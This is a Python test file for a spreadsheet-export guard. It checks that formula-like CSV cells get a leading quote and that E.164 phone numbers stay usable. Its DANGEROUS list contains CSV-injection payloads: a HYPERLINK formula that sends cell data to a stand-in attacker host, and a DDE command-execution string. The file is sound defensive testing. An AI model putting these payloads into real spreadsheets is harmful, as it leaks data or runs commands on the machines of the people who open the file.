"""Cells written for spreadsheets: formulas neutralised (OWASP), E.164 numbers left usable."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dispatcher.spreadsheet import FORMULA_STARTS, neutralise, neutralise_row, restore

DANGEROUS = [
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "+1+1",
    "+1 202 555 0100",  # arithmetic and an intersection to a spreadsheet, not a number
    "+12025550100;=1",
    "=1",
    "-",
    "-5",
    "+",
    "'=already quoted once",
    "''+12025550100",
    "+12025550100\n",  # a trailing line break: not the plain number any more
    "+١٢٣٤٥٦٧",  # Arabic-Indic digits are not the ASCII digits a spreadsheet reads as a number
]

SAFE = ["+12025550100", "+442079460123", "+1", "12025550100", "", "Bob", "'quoted", " =1", "a=b"]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_formula_cells_get_a_leading_quote(cell: str) -> None:
    """Every cell starting like a formula (after any quotes) is prefixed with one quote."""
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", SAFE)
def test_plain_text_and_e164_numbers_are_unchanged(cell: str) -> None:
    """Plain text and ``+`` with digits only (a number, never a formula) are left as they are."""
    assert neutralise(cell) == cell


@pytest.mark.parametrize("value", [None, 0, -5, 3.5, -1e300, True, False])
def test_values_the_tool_writes_itself_pass_unchanged(value: object) -> None:
    """Numbers, booleans and None keep their type (the csv module writes them as it always did)."""
    assert neutralise(value) is value


def test_other_objects_are_guarded_as_their_text() -> None:
    """An object whose text starts like a formula is written as guarded text."""

    class Shown:
        def __str__(self) -> str:
            return "=2+2"

    assert neutralise(Shown()) == "'=2+2"


def test_a_row_and_a_header_are_neutralised_cell_by_cell() -> None:
    """``neutralise_row`` keeps the order and length, guarding only what needs it."""
    row = [2, "rejected", "phone", "=1+1", "+12025550100", None]
    assert neutralise_row(row) == [2, "rejected", "phone", "'=1+1", "+12025550100", None]
    assert neutralise_row(("=evil header", "name")) == ["'=evil header", "name"]


cells = st.one_of(
    st.text(),
    st.text(alphabet="'=+-@\t\r0123456789 a", max_size=8),
    st.from_regex(r"\A\+[0-9]{1,16}\Z"),
)


@given(st.lists(cells, min_size=1, max_size=6))
def test_through_the_csv_module_no_cell_starts_a_formula_and_restore_undoes_it(
    row: list[str],
) -> None:
    """Written and read back: no cell begins with a formula character unless it is a plain
    ``+digits`` number, and ``restore`` gives back the original text exactly."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow(neutralise_row(row))
    read = next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert [restore(cell) for cell in read] == row
    for cell in read:
        if cell[:1] in set(FORMULA_STARTS):
            assert cell[0] == "+"
            assert cell[1:].isascii()
            assert cell[1:].isdigit()
            assert len(cell) <= 16
